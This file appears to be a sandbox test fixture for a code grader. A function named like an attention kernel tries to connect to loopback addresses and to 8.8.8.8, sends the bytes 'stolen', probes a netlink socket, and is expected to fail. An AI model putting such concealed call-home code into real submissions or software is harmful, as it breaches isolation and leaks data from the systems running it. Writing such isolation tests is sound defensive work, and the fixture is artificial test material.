# attack: call home: connect to a listener on the grader's loopback, to ::1 and to the internet
# expect: exception
import socket


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    results = []
    for family, addr in ((socket.AF_INET, ("127.0.0.1", {{PORT}})), (socket.AF_INET6, ("::1", {{PORT}})),
                         (socket.AF_INET, ("8.8.8.8", 53))):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(addr)
            s.sendall(b"stolen")
            results.append(f"CONNECTED {addr}")
        except OSError as exc:
            results.append(f"{addr}: {exc}")
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        results.append("NETLINK OPEN")
    except OSError as exc:
        results.append(f"netlink: {exc}")
    raise RuntimeError("; ".join(results))
